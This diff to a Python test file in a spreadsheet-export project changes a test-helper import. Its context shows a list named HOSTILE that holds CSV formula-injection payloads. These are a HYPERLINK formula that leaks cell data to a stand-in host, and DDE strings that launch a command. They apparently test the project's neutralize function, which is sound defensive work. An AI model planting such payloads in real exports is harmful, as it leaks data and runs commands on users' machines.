@@ -15,7 +15,7 @@ from poolsync.capacity.model import Snapshot
 from poolsync.model import SeatClass
 from poolsync.render.pool import pool_report_csv
 from poolsync.spreadsheet import neutralize, restore
-from tests.unit.test_real_forest import location
+from tests.support.locations import location
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
